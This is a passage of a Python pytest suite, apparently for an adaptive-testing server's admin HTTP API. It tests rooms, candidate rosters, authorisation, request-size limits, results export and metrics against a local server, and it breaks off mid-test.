"""The admin HTTP API of docs/protocol.md over HTTP (urllib), against the real app under uvicorn in a thread.

Most tests use the memory store; :func:`test_main_flow_over_redis` runs the main flow (room, roster, a candidate
through the battery over the WebSocket, status, session, results, ack) once more over a private Redis.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import http.client
import io
import logging
import secrets
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from conftest import AppServer, battery_dict, subtest_dict, write_battery
from websockets.asyncio.client import connect

from cat_engine.server.auth import new_room_id
from cat_engine.server.settings import Settings
from cat_engine.server.store import RoomRecord
from load_tests.procs import RedisServer

ADMIN = "admin-" + secrets.token_hex(8)
BATTERY = "admin-test"
ITEMS = 2
# docs/protocol.md, "Result rows", in this order
RESULT_COLUMNS = [
    "room_id",
    "session_id",
    "employee_id",
    "name",
    "battery_id",
    "battery_version",
    "subtest",
    "pool_version",
    "theta",
    "se",
    "level",
    "level_probability",
    "scaled_score",
    "items",
    "time_s",
    "stop_reason",
    "complete",
    "status",
    "notes",
    "flags",
    "p_rapid",
    "p_preknowledge",
    "p_misfit",
    "p_speed_change",
    "p_ability_change",
]
SUMMARY_KEYS = {
    "session_id",
    "employee_id",
    "name",
    "phase",
    "connected",
    "subtest_index",
    "subtest",
    "answered",
    "answered_total",
    "theta",
    "se",
    "se_target",
    "time_left_s",
    "last_seen_ms",
    "pause_reason",
    "terminated_reason",
    "allowed",
    "device",
    "seat_request",
    "seat_request_at_ms",
    "notes",
    "flags",
}
# docs/protocol.md, "The full profile"
PROFILE_KEYS = {"battery_id", "battery_version", "complete", "subtests"}
PROFILE_SUBTEST_KEYS = {
    "subtest_id",
    "name",
    "theta",
    "se",
    "level",
    "level_probability",
    "scaled_score",
    "items_administered",
    "time_used_s",
    "stop_reason",
    "pool_id",
    "pool_version",
}
_OPENER = urllib.request.build_opener(urllib.request.ProxyHandler({}))


@pytest.fixture(scope="module")
def battery_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    subs = [subtest_dict(s, max_items=ITEMS, min_items=ITEMS, se_target=None, time_limit_s=600) for s in ("s1", "s2")]
    return write_battery(tmp_path_factory.mktemp("battery"), battery_dict(subs, id=BATTERY, version="2026.7"))


@pytest.fixture(scope="module")
def srv(app_server: Callable[..., AppServer], battery_path: Path) -> Iterator[AppServer]:
    server = app_server(Settings(admin_token=ADMIN, demo_room=False, batteries=(battery_path,)))
    yield server
    server.stop()


# --- HTTP ------------------------------------------------------------------------------------------------------


@dataclass
class Reply:
    status: int
    headers: Any
    body: bytes

    @property
    def json(self) -> Any:
        return orjson.loads(self.body)

    def error(self, status: int, code: str, **fields: str) -> None:
        assert self.status == status, (self.status, self.body[:300])
        assert self.headers.get("content-type", "").startswith("application/json")
        err = self.json["error"]
        assert set(err) == {"code", "message", *fields}
        assert {k: err[k] for k in fields} == fields
        assert err["code"] == code, err
        assert isinstance(err["message"], str) and err["message"]


def call(
    srv: AppServer,
    method: str,
    path: str,
    body: Any = None,
    *,
    token: str | None = ADMIN,
    ctype: str | None = None,
    auth: str | None = None,
    headers: dict[str, str] | None = None,
) -> Reply:
    data: bytes | None
    if body is None or isinstance(body, bytes):
        data = body
    elif isinstance(body, str):
        data = body.encode()
    else:
        data = orjson.dumps(body)
        ctype = ctype or "application/json"
    req = urllib.request.Request(srv.base_url + path, data=data, method=method)
    if ctype is not None:
        req.add_header("Content-Type", ctype)
    for name, value in (headers or {}).items():
        req.add_header(name, value)
    if auth is not None:
        req.add_header("Authorization", auth)
    elif token is not None:
        req.add_header("Authorization", f"Bearer {token}")
    try:
        with _OPENER.open(req, timeout=10) as resp:
            return Reply(resp.status, resp.headers, resp.read())
    except urllib.error.HTTPError as err:
        return Reply(err.code, err.headers, err.read())


def raw(srv: AppServer, path: str, headers: dict[str, str], chunks: Iterator[bytes] | None) -> Reply:
    """POST with http.client: only the given headers (and a chunked body when ``chunks`` is given)."""
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
    try:
        conn.putrequest("POST", path)
        for name, value in {"Authorization": f"Bearer {ADMIN}", "Content-Type": "application/json", **headers}.items():
            conn.putheader(name, value)
        if chunks is None:
            conn.endheaders()
        else:
            conn.putheader("Transfer-Encoding", "chunked")
            conn.endheaders()
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                for chunk in chunks:
                    conn.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                conn.send(b"0\r\n\r\n")
        resp = conn.getresponse()
        return Reply(resp.status, resp.headers, resp.read())
    finally:
        conn.close()


def new_room(srv: AppServer, name: str = "Ruang 1", *, is_open: bool = True) -> dict[str, Any]:
    """A new room, open unless asked otherwise (candidates may begin at once)."""
    reply = call(srv, "POST", "/api/rooms", {"name": name, "battery": BATTERY, "open": is_open})
    assert reply.status == 201, reply.body
    assert reply.json["open"] is is_open
    return reply.json  # type: ignore[no-any-return]


def register(srv: AppServer, room_id: str, *people: tuple[str, str]) -> list[dict[str, str]]:
    rows = [{"employee_id": e, "name": n} for e, n in people]
    reply = call(srv, "POST", f"/api/rooms/{room_id}/candidates", {"candidates": rows})
    assert reply.status == 201, reply.body
    return reply.json["candidates"]  # type: ignore[no-any-return]


def candidates(srv: AppServer, room_id: str) -> list[dict[str, str]]:
    reply = call(srv, "GET", f"/api/rooms/{room_id}/candidates")
    assert reply.status == 200
    return reply.json["candidates"]  # type: ignore[no-any-return]


def listed(made: list[dict[str, str]]) -> list[dict[str, str]]:
    """Registered candidates as the room's list shows them: without their tokens (shown once, at registration)."""
    return [{k: v for k, v in c.items() if k != "token"} for c in made]


def metrics(srv: AppServer) -> str:
    reply = call(srv, "GET", "/metrics")
    assert reply.status == 200
    return reply.body.decode()


def error_count(text: str, code: str) -> int:
    prefix = f'cat_errors_total{{code="{code}"}} '
    return next((int(float(line[len(prefix) :])) for line in text.splitlines() if line.startswith(prefix)), 0)


def sit_frames(
    srv: AppServer, token: str, answers: int | None = None, *, device: str | None = None
) -> list[dict[str, Any]]:
    """A candidate over the WebSocket: hello (with ``device`` when given), ``start`` after the welcome and after each
    subtest's intro (docs/protocol.md, Flow), and ``answers`` answers (all when None); every frame received, the
    last one being the first after those answers that waits for no ``start`` (an item, ``finished``, an error)."""

    async def go() -> list[dict[str, Any]]:
        async with connect(f"{srv.ws_url}/ws/candidate", proxy=None, open_timeout=5) as ws:

            async def say(frame: dict[str, Any]) -> dict[str, Any]:
                await ws.send(orjson.dumps(frame).decode())
                reply: dict[str, Any] = orjson.loads(await asyncio.wait_for(ws.recv(), 5))
                seen.append(reply)
                return reply

            seen: list[dict[str, Any]] = []
            hello = {"type": "hello", "token": token} | ({} if device is None else {"device": device})
            frame = await say(hello)
            n = 0
            while True:
                if frame["type"] == "welcome":
                    frame = await say({"type": "start"})
                elif frame["type"] == "subtest_intro":
                    frame = await say({"type": "start", "subtest": frame["subtest"]["index"]})
                elif frame["type"] == "item" and (answers is None or n < answers):
                    frame = await say({"type": "answer", "seq": frame["seq"], "response": n % 4})
                    n += 1
                else:
                    return seen

    return asyncio.run(asyncio.wait_for(go(), 20))


def sit(srv: AppServer, token: str, answers: int | None = None, *, device: str | None = None) -> dict[str, Any]:
    """:func:`sit_frames`' last frame."""
    return sit_frames(srv, token, answers, device=device)[-1]


def wait_disconnected(srv: AppServer, session_id: str) -> None:
    """The server stops the clock after the socket closed; wait for it so later reads are stable."""
    for _ in range(250):
        if not call(srv, "GET", f"/api/sessions/{session_id}").json["session"]["connected"]:
            return
        asyncio.run(asyncio.sleep(0.02))
    raise AssertionError("the session stayed connected")


# --- authorisation ---------------------------------------------------------------------------------------------

API_ROUTES = [
    ("GET", "/api/batteries"),
    ("POST", "/api/rooms"),
    ("GET", "/api/rooms"),
    ("GET", "/api/rooms/NOROOM"),
    ("POST", "/api/rooms/NOROOM/candidates"),
    ("GET", "/api/rooms/NOROOM/candidates"),
    ("GET", "/api/rooms/NOROOM/results"),
    ("POST", "/api/rooms/NOROOM/results/ack"),
    ("GET", "/api/sessions/NOROOM-0001"),
    ("GET", "/api/sessions/NOROOM-0001/audit"),
]


@pytest.mark.parametrize(("method", "path"), API_ROUTES)
def test_every_api_route_needs_the_admin_bearer(srv: AppServer, method: str, path: str) -> None:
    before = error_count(metrics(srv), "unauthorized")
    body = b"{}" if method == "POST" else None
    for headers in ({"token": None}, {"token": ADMIN + "x"}, {"token": ""}, {"auth": f"Basic {ADMIN}"}):
        call(srv, method, path, body, ctype="application/json", **headers).error(401, "unauthorized")
    assert error_count(metrics(srv), "unauthorized") == before + 4
    assert call(srv, "GET", "/api/rooms", auth=f"bearer {ADMIN}").status == 200  # the scheme is case-insensitive


def test_batteries(srv: AppServer) -> None:
    reply = call(srv, "GET", "/api/batteries")
    assert reply.status == 200
    assert reply.headers["content-type"].startswith("application/json")
    assert reply.json == {
        "batteries": [
            {
                "id": BATTERY,
                "version": "2026.7",
                "name": "Test battery",
                "subtests": [{"id": "s1", "name": "Subtest s1"}, {"id": "s2", "name": "Subtest s2"}],
            }
        ]
    }


# --- rooms and rosters -----------------------------------------------------------------------------------------


def test_create_and_list_rooms(srv: AppServer) -> None:
    room = new_room(srv, "  Ruang Melati  ")
    assert set(room) == {"room_id", "name", "battery", "open", "proctor_token"}
    assert (room["name"], room["battery"], room["open"]) == ("Ruang Melati", BATTERY, True)
    assert "-" not in room["room_id"]
    # without "open" a room starts closed: its proctor opens it (docs/protocol.md, POST /api/rooms)
    reply = call(srv, "POST", "/api/rooms", {"name": "Ruang Mawar", "battery": BATTERY})
    assert reply.status == 201, reply.body
    closed = reply.json
    assert set(closed) == {"room_id", "name", "battery", "open", "proctor_token"}
    assert (closed["name"], closed["battery"], closed["open"]) == ("Ruang Mawar", BATTERY, False)
    assert new_room(srv, "Ruang Kenanga", is_open=False)["open"] is False
    listed = call(srv, "GET", "/api/rooms").json["rooms"]
    assert {
        "room_id": room["room_id"],
        "name": "Ruang Melati",
        "battery": BATTERY,
        "open": True,
        "archived": False,
    } in listed
    assert {
        "room_id": closed["room_id"],
        "name": "Ruang Mawar",
        "battery": BATTERY,
        "open": False,
        "archived": False,
    } in listed
    count = len(listed)
    call(srv, "POST", "/api/rooms", {"name": "x", "battery": "no-such-battery"}).error(400, "bad_request")
    call(srv, "POST", "/api/rooms", '{"name": "x", "battery": ', ctype="application/json").error(400, "bad_request")
    call(srv, "POST", "/api/rooms", b"", ctype="application/json").error(400, "bad_request")
    bad: object  # request bodies of every JSON shape
    for bad in (
        [],
        {"name": "x"},
        {"battery": BATTERY},
        {"name": 5, "battery": BATTERY},
        {"name": "  ", "battery": BATTERY},
        {"name": "x", "battery": BATTERY, "open": "true"},
        {"name": "x", "battery": BATTERY, "open": 1},
        {"name": "x", "battery": BATTERY, "open": None},
    ):
        call(srv, "POST", "/api/rooms", bad).error(400, "bad_request")
    call(srv, "POST", "/api/rooms", {"name": "x" * 201, "battery": BATTERY}).error(400, "bad_request")
    assert len(call(srv, "GET", "/api/rooms").json["rooms"]) == count  # nothing stored by a refused request


def test_roster_as_json_and_as_csv(srv: AppServer) -> None:
    room = new_room(srv)
    rid = room["room_id"]
    made = register(srv, rid, ("199001012020121001", "Siti Rahma"), ("199001012020121002", "Budi"))
    assert [set(c) for c in made] == [{"employee_id", "name", "session_id", "token"}] * 2
    assert [c["session_id"] for c in made] == [f"{rid}-0001", f"{rid}-0002"]
    body = "\ufeffemployee_id;name\nE-3;Dewi Lestari\n\n E-4 ; Agus \n"  # BOM, semicolons, blank line, spaces
    reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", body, ctype="text/csv; charset=utf-8")
    assert reply.status == 201, reply.body
    csv_made = reply.json["candidates"]
    assert [(c["employee_id"], c["name"]) for c in csv_made] == [("E-3", "Dewi Lestari"), ("E-4", "Agus")]
    everyone = candidates(srv, rid)
    assert everyone == listed(made + csv_made)  # in registration order, without tokens
    assert len({c["token"] for c in made + csv_made}) == 4
    assert all(c["session_id"].startswith(f"{rid}-") for c in everyone)
    reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "name,nip\nA,1\n", ctype="text/csv")
    reply.error(400, "bad_request")
    bad: object  # request bodies of every JSON shape
    for bad in ({"candidates": []}, {"candidates": [{"employee_id": "E9"}]}, {"people": []}, [1]):
        call(srv, "POST", f"/api/rooms/{rid}/candidates", bad).error(400, "bad_request")
    call(srv, "POST", f"/api/rooms/{rid}/candidates", "{oops", ctype="application/json").error(400, "bad_request")
    assert candidates(srv, rid) == everyone


def test_a_duplicate_employee_stores_nothing_of_the_roster(srv: AppServer) -> None:
    rid = new_room(srv)["room_id"]
    first = register(srv, rid, ("E1", "Satu"))
    status_before = call(srv, "GET", f"/api/rooms/{rid}").json
    for rows in (
        [{"employee_id": "E2", "name": "Dua"}, {"employee_id": "E1", "name": "Satu lagi"}],  # already registered
        [{"employee_id": "E3", "name": "Tiga"}, {"employee_id": "E3", "name": "Tiga lagi"}],  # twice in the roster
    ):
        reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", {"candidates": rows})
        reply.error(409, "duplicate_employee", employee_id=rows[-1]["employee_id"])
    reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE5,Lima\nE1,Satu\n", ctype="text/csv")
    reply.error(409, "duplicate_employee", employee_id="E1")
    assert candidates(srv, rid) == listed(first)
    status_after = call(srv, "GET", f"/api/rooms/{rid}").json
    assert status_after.pop("at_ms") >= status_before.pop("at_ms")
    assert status_after == status_before
    # the same employee may sit in another room
    other = new_room(srv, "Ruang 2")["room_id"]
    assert register(srv, other, ("E1", "Satu"))[0]["employee_id"] == "E1"


def test_a_repeated_registration_with_its_idempotency_key_registers_nothing_more(srv: AppServer) -> None:
    rid = new_room(srv)["room_id"]
    rows = {"candidates": [{"employee_id": "E1", "name": "Satu"}, {"employee_id": "E2", "name": "Dua"}]}
    key = {"Idempotency-Key": "roster-0001"}
    first = call(srv, "POST", f"/api/rooms/{rid}/candidates", rows, headers=key)
    assert first.status == 201, first.body
    again = call(srv, "POST", f"/api/rooms/{rid}/candidates", rows, headers=key)
    assert (again.status, again.json) == (201, first.json)  # the first reply: the same sessions and tokens
    assert candidates(srv, rid) == listed(first.json["candidates"])
    # the same key with other rows still answers the first registration: the key names the request
    other = {"candidates": [{"employee_id": "E3", "name": "Tiga"}]}
    assert call(srv, "POST", f"/api/rooms/{rid}/candidates", other, headers=key).json == first.json
    # a new key is a new registration, refused as usual when it repeats an employee
    call(srv, "POST", f"/api/rooms/{rid}/candidates", rows, headers={"Idempotency-Key": "k2"}).error(
        409, "duplicate_employee", employee_id="E1"
    )
    made = call(srv, "POST", f"/api/rooms/{rid}/candidates", other, headers={"Idempotency-Key": "k3"})
    assert made.status == 201 and len(candidates(srv, rid)) == 3
    long_key = {"Idempotency-Key": "x" * 201}
    call(srv, "POST", f"/api/rooms/{rid}/candidates", other, headers=long_key).error(400, "bad_request")


def test_unknown_rooms_and_sessions_are_404(srv: AppServer) -> None:
    rid = new_room(srv)["room_id"]
    for method, path in API_ROUTES[3:]:
        body = {"candidates": [{"employee_id": "E1", "name": "x"}]} if path.endswith("candidates") else None
        if path.endswith("/ack"):
            body = {"session_ids": []}
        call(srv, method, path, body if method == "POST" else None).error(404, "not_found")
    for sid in (f"{rid}-9999", "nodash", f"{rid}-0001-x"):
        call(srv, "GET", f"/api/sessions/{sid}").error(404, "not_found")
        call(srv, "GET", f"/api/sessions/{sid}/audit").error(404, "not_found")
    assert candidates(srv, rid) == []


def test_body_limits_and_content_types(srv: AppServer) -> None:
    rid = new_room(srv)["room_id"]
    # a declared length over 1 MiB is refused before the body is read (headers only: no race with a closing socket)
    for path in (f"/api/rooms/{rid}/candidates", "/api/rooms"):
        raw(srv, path, {"Content-Length": str((1 << 20) + 1)}, None).error(413, "too_large")
    # without a Content-Length (chunked), the limit holds while reading
    chunks = [b'{"name": "', b"x" * (1 << 19), b"x" * (1 << 19) + b'", "battery": "b"}']
    raw(srv, "/api/rooms", {}, iter(chunks)).error(413, "too_large")
    # exactly 1 MiB is allowed (and then refused for its content)
    exact = b'{"name": "x", "battery": "nope"}'
    exact += b" " * ((1 << 20) - len(exact))
    call(srv, "POST", "/api/rooms", exact, ctype="application/json").error(400, "bad_request")
    reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE1,x\n", ctype="text/plain")
    assert reply.status == 415
    assert reply.json["error"]["code"]
    call(srv, "POST", f"/api/rooms/{rid}/candidates", b"<x/>", ctype="application/xml").error(
        415, reply.json["error"]["code"]
    )
    assert candidates(srv, rid) == []


# --- status, sessions and results ------------------------------------------------------------------------------


def test_room_status_session_and_results(srv: AppServer) -> None:
    room = new_room(srv)
    rid = room["room_id"]
    a, b, c = register(srv, rid, ("E1", "Ani"), ("E2", "Bayu"), ("E3", "Citra"))
    status = call(srv, "GET", f"/api/rooms/{rid}").json
    assert set(status) == {"room", "counts", "sessions", "at_ms"}
    assert status["room"]["room_id"] == rid
    assert status["room"]["battery"]["id"] == BATTERY
    assert [s["id"] for s in status["room"]["subtests"]] == ["s1", "s2"]
    assert status["counts"] == {"ready": 3}
    assert all(set(s) == SUMMARY_KEYS for s in status["sessions"])
    assert [s["session_id"] for s in status["sessions"]] == [a["session_id"], b["session_id"], c["session_id"]]

    session = call(srv, "GET", f"/api/sessions/{a['session_id']}").json
    assert set(session) == {"session", "profile", "suppressed"}
    assert session["suppressed"] == {"audit": 0, "events": 0}
    assert session["profile"] is None
    assert session["session"]["phase"] == "ready"

    device = "lab2-kursi-07"
    finished = sit(srv, a["token"], device=device)  # all the way through
    assert finished["type"] == "finished"
    assert [s["id"] for s in finished["profile"]["subtests"]] == ["s1", "s2"]
    frame = sit(srv, b["token"], answers=1)  # started, then gone
    assert frame["type"] == "item"
    wait_disconnected(srv, b["session_id"])
    counts = call(srv, "GET", f"/api/rooms/{rid}").json["counts"]
    assert counts == {"finished": 1, "active": 1, "ready": 1}

    session = call(srv, "GET", f"/api/sessions/{b['session_id']}").json
    assert session["profile"] is None
    assert (session["session"]["answered"], session["session"]["connected"]) == (1, False)
    session = call(srv, "GET", f"/api/sessions/{a['session_id']}").json
    # the seat it was taken on; no move waiting, no incident note (docs/protocol.md, the session summary)
    assert (session["session"]["device"], session["session"]["seat_request"]) == (device, None)
    assert session["session"]["seat_request_at_ms"] is None
    assert session["session"]["notes"] == 0
    profile = session["profile"]
    assert profile is not None
    assert set(profile) == PROFILE_KEYS
    assert (profile["battery_id"], profile["battery_version"], profile["complete"]) == (BATTERY, "2026.7", True)
    assert [s["subtest_id"] for s in profile["subtests"]] == ["s1", "s2"]
    assert all(set(s) == PROFILE_SUBTEST_KEYS for s in profile["subtests"])  # theta and SE included for the admin
    assert [(s["pool_id"], s["pool_version"], s["stop_reason"]) for s in profile["subtests"]] == [
        ("s1", "1.0", "max_items"),
        ("s2", "1.0", "max_items"),
    ]
    probabilities = [s["level_probability"] for s in profile["subtests"]]  # of each level: 0 to 1, 3 decimals
    assert all(isinstance(p, float) and 0 < p <= 1 and p == round(p, 3) for p in probabilities), probabilities

    audit = call(srv, "GET", f"/api/sessions/{a['session_id']}/audit").json["entries"]
    assert all({"id", "at_ms", "kind"} <= set(e) for e in audit)
    assert [e["id"] for e in audit] == sorted({e["id"] for e in audit}, key=lambda i: tuple(map(int, i.split("-"))))
    documented = {  # docs/protocol.md, audit entries (an applied answer has no outcome, a start that began one)
        "hello": {"conn", "device"},
        "start": {"conn", "subtest"},
        "presented": {"seq", "subtest", "item_id", "option_order", "theta", "se"},
        "answer": {"conn", "seq", "response", "item_id", "response_ms", "option"},
    }
    for entry in audit:
        assert set(entry) - {"id", "at_ms", "kind"} == documented[entry["kind"]], entry
    kinds = [e["kind"] for e in audit]
    # hello; start (the battery) and start (subtest 0); each subtest's items; start (subtest 1) between them
    per_subtest = ["presented", "answer"] * ITEMS
    assert kinds == ["hello", "start", "start", *per_subtest, "start", *per_subtest]
    (hello,) = (e for e in audit if e["kind"] == "hello")
    assert hello["device"] == device  # who sat where (docs/protocol.md, "Seats")
    starts = [e for e in audit if e["kind"] == "start"]
    assert [e["subtest"] for e in starts] == [None, 0, 1]
    assert {e["conn"] for e in starts} == {hello["conn"]}
    assert [e["seq"] for e in audit if e["kind"] == "answer"] == list(range(1, 2 * ITEMS + 1))

    rows = call(srv, "GET", f"/api/rooms/{rid}/results").json["results"]
    assert call(srv, "GET", f"/api/rooms/{rid}/results?format=json").json["results"] == rows
    assert len(rows) == 2  # one per finished subtest of the finished candidate
    assert [r["level_probability"] for r in rows] == probabilities  # the profile's, in its own column
    for row, sub in zip(rows, ("s1", "s2"), strict=True):
        assert list(row) == RESULT_COLUMNS
        assert (row["room_id"], row["session_id"], row["employee_id"], row["name"]) == (
            rid,
            a["session_id"],
            "E1",
            "Ani",
        )
        assert (row["battery_id"], row["battery_version"], row["subtest"]) == (BATTERY, "2026.7", sub)
        assert row["pool_version"] == f"{sub}@1.0"
        assert (row["items"], row["stop_reason"], row["complete"], row["status"]) == (
            ITEMS,
            "max_items",
            True,
            "finished",
        )
        assert isinstance(row["theta"], float) and isinstance(row["se"], float)
        assert row["notes"] == ""  # no incident note written

    reply = call(srv, "GET", f"/api/rooms/{rid}/results?format=csv")
    assert reply.status == 200
    assert reply.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"))))
    assert table[0] == RESULT_COLUMNS
    assert len(table) == 3
    assert [r[RESULT_COLUMNS.index("subtest")] for r in table[1:]] == ["s1", "s2"]
    call(srv, "GET", f"/api/rooms/{rid}/results?format=xml").error(400, "bad_request")

    ack = call(srv, "POST", f"/api/rooms/{rid}/results/ack", {"session_ids": [a["session_id"], b["session_id"]]})
    assert (ack.status, ack.json) == (200, {"acknowledged": 1})  # only a finished session's results
    ack = call(srv, "POST", f"/api/rooms/{rid}/results/ack", {"session_ids": [a["session_id"]] * 2})
    assert ack.json == {"acknowledged": 1}
    bad: object  # request bodies of every JSON shape
    for bad in ({"session_ids": "x"}, {"session_ids": [1]}, [], {}):
        call(srv, "POST", f"/api/rooms/{rid}/results/ack", bad).error(400, "bad_request")
    call(srv, "POST", f"/api/rooms/{rid}/results/ack", "nope", ctype="application/json").error(400, "bad_request")
    # acknowledged results are still served until they expire
    assert len(call(srv, "GET", f"/api/rooms/{rid}/results").json["results"]) == 2


def proctor(srv: AppServer, token: str, command: dict[str, Any]) -> dict[str, Any]:
    """One proctor command over the WebSocket; its acknowledgement."""

    async def go() -> dict[str, Any]:
        async with connect(f"{srv.ws_url}/ws/proctor", proxy=None, open_timeout=5) as ws:
            await ws.send(orjson.dumps({"type": "hello", "token": token}).decode())
            assert orjson.loads(await asyncio.wait_for(ws.recv(), 5))["type"] == "snapshot"
            await ws.send(orjson.dumps(command).decode())
            while True:
                frame = orjson.loads(await asyncio.wait_for(ws.recv(), 5))
                if frame["type"] == "ack":
                    return frame  # type: ignore[no-any-return]

    return asyncio.run(asyncio.wait_for(go(), 20))


def test_results_only_for_sessions_that_are_over(srv: AppServer) -> None:
    """Sessions still going have no rows; a terminated one has a row per subtest it reached (docs/protocol.md)."""
    room = new_room(srv)
    rid = room["room_id"]
    a, b, c = register(srv, rid, ("E1", "Ani"), ("E2", "Bayu"), ("E3", "Citra"))
    *_, intro, frame = sit_frames(srv, a["token"], answers=ITEMS)  # the first subtest done, the second just begun
    assert (intro["type"], intro["subtest"]["index"]) == ("subtest_intro", 1)
    assert intro["previous_subtest"] == {"id": "s1", "name": "Subtest s1", "reason": "completed"}
    assert (frame["type"], frame["seq"]) == ("item", ITEMS + 1) and "previous_subtest" not in frame
    assert sit(srv, b["token"], answers=1)["type"] == "item"
    wait_disconnected(srv, a["session_id"])
    wait_disconnected(srv, b["session_id"])
    assert call(srv, "GET", f"/api/rooms/{rid}/results").json == {"results": []}
    ack = proctor(srv, room["proctor_token"], {"type": "terminate", "room": True, "reason": "ruang ditutup", "id": 1})
    assert ack["results"] == [{"session_id": x["session_id"], "ok": True} for x in (a, b, c)]
    rows = call(srv, "GET", f"/api/rooms/{rid}/results").json["results"]
    got = [(r["employee_id"], r["subtest"], r["items"], r["stop_reason"], r["status"], r["complete"]) for r in rows]
    assert got == [
        ("E1", "s1", ITEMS, "max_items", "terminated", False),
        ("E1", "s2", 0, "terminated", "terminated", False),
        ("E2", "s1", 1, "terminated", "terminated", False),
    ]  # Citra never reached a subtest: no row
    assert rows[0]["level"] is not None and rows[0]["scaled_score"] is not None
    assert 0 < rows[0]["level_probability"] <= 1
    assert (rows[1]["level"], rows[1]["level_probability"], rows[1]["scaled_score"]) == (None, None, None)  # no answer
    table = list(csv.DictReader(io.StringIO(call(srv, "GET", f"/api/rooms/{rid}/results?format=csv").body.decode())))
    empty = table[1]  # s2, ended before any answer
    assert (empty["subtest"], empty["level"], empty["level_probability"], empty["scaled_score"]) == ("s2", "", "", "")
    assert float(table[0]["level_probability"]) == rows[0]["level_probability"]
    assert [r["complete"] for r in table] == ["False"] * 3
    session = call(srv, "GET", f"/api/sessions/{c['session_id']}").json
    assert session["session"]["phase"] == "terminated"
    assert session["profile"] == {
        "battery_id": BATTERY,
        "battery_version": "2026.7",
        "complete": False,
        "subtests": [],
    }


def test_a_proctor_token_reads_its_own_rooms_results_and_nothing_else(srv: AppServer) -> None:
    room, other = new_room(srv), new_room(srv, "Ruang 2")
    rid = room["room_id"]
    (a,) = register(srv, rid, ("P1", "Putri"))
    sit(srv, a["token"])
    as_admin = call(srv, "GET", f"/api/rooms/{rid}/results?format=csv")
    as_proctor = call(srv, "GET", f"/api/rooms/{rid}/results?format=csv", token=room["proctor_token"])
    assert as_proctor.status == 200 and as_proctor.body == as_admin.body
    assert len(list(csv.DictReader(io.StringIO(as_proctor.body.decode())))) == 2  # both subtests of Putri
    # another room's proctor, and every other endpoint, still need the admin token
    call(srv, "GET", f"/api/rooms/{rid}/results", token=other["proctor_token"]).error(401, "unauthorized")
    for path in (f"/api/rooms/{rid}", f"/api/rooms/{rid}/candidates", f"/api/sessions/{a['session_id']}"):
        call(srv, "GET", path, token=room["proctor_token"]).error(401, "unauthorized")
    ack = call(
        srv, "POST", f"/api/rooms/{rid}/results/ack", {"session_ids": [a["session_id"]]}, token=room["proctor_token"]
    )
    ack.error(401, "unauthorized")
    call(srv, "GET", f"/api/rooms/{rid}/results", auth=f"Basic {room['proctor_token']}").error(401, "unauthorized")


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_room_of_a_battery_not_loaded_gets_a_json_error(
    srv: AppServer, method: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # uvicorn logs the 500 with a traceback from the server thread; on CPython 3.11 formatting a traceback parses
    # source (ast) and racing pytest's own ast.parse of this failure can crash pytest (AST recursion depth mismatch)
    monkeypatch.setattr(logging.getLogger("uvicorn.error"), "disabled", True)
    room_id = new_room_id()  # of the form of a room id: it reaches the battery check
    srv.call(srv.hub.store.create_room(RoomRecord(room_id, "Ruang lama", "retired-battery", 1), secrets.token_hex(8)))
    if method == "GET":
        reply = call(srv, "GET", f"/api/rooms/{room_id}")
    else:
        reply = call(
            srv, "POST", f"/api/rooms/{room_id}/candidates", {"candidates": [{"employee_id": "E", "name": "N"}]}
        )
    assert reply.status in (400, 404)
    assert reply.headers.get("content-type", "").startswith("application/json")
    assert reply.json["error"]["code"] in ("bad_request", "not_found")


def test_healthz_and_metrics(srv: AppServer) -> None:
    reply = call(srv, "GET", "/healthz", token=None)
    assert (reply.status, reply.json) == (200, {"status": "ok", "store": "memory"})
    assert call(srv, "GET", "/metrics", token=None).status == 401
    reply = call(srv, "GET", "/metrics")
    assert reply.status == 200
    assert reply.headers["content-type"].startswith("text/plain; version=0.0.4")
    sit(srv, register(srv, new_room(srv)["room_id"], ("E1", "Ani"))[0]["token"], answers=1)
    text = metrics(srv)
    types = {line.split()[2]: line.split()[3] for line in text.splitlines() if line.startswith("# TYPE ")}
    assert types["cat_live_connections"] == "gauge"
    assert types["cat_answers_total"] == "counter"
    assert types["cat_answer_seconds"] == "histogram"
    assert types["cat_errors_total"] == "counter"
    assert types["cat_frames_total"] == "counter"
    assert types["cat_store_conflicts_total"] == "counter"
    names = {line.split("{")[0].split(" ")[0] for line in text.splitlines() if line and not line.startswith("#")}
    assert {
        "cat_live_connections",
        "cat_answers_total",
        "cat_answer_seconds_bucket",
        "cat_answer_seconds_sum",
        "cat_answer_seconds_count",
        "cat_errors_total",
        "cat_frames_total",
        "cat_store_conflicts_total",
        "cat_live_sessions",
    } <= names
    assert 'cat_live_connections{kind="candidate"}' in text
    assert 'cat_live_connections{kind="proctor"}' in text
    assert 'cat_frames_total{kind="candidate"}' in text
    assert 'cat_answer_seconds_bucket{le="+Inf"}' in text
    answers = next(float(line.split()[1]) for line in text.splitlines() if line.startswith("cat_answers_total "))
    assert answers >= 1
    count = next(float(line.split()[1]) for line in text.splitlines() if line.startswith("cat_answer_seconds_count "))
    assert count == answers


# --- the main flow over Redis ----------------------------------------------------------------------------------


def test_main_flow_over_redis(
    app_server: Callable[..., AppServer], private_redis: RedisServer, battery_path: Path
) -> None:
    prefix = f"t-admin-{secrets.token_hex(4)}"
    settings = Settings(
        redis_url=private_redis.url, key_prefix=prefix, admin_token=ADMIN, demo_room=False, batteries=(battery_path,)
    )
    srv = app_server(settings)
    try:
        assert call(srv, "GET", "/healthz", token=None).json == {"status": "ok", "store": "redis"}
        room = new_room(srv)
        rid = room["room_id"]
        rooms = call(srv, "GET", "/api/rooms").json["rooms"]
        assert {"room_id": rid, "name": "Ruang 1", "battery": BATTERY, "open": True, "archived": False} in rooms
        made = register(srv, rid, ("E1", "Ani"), ("E2", "Bayu"))
        reply = call(
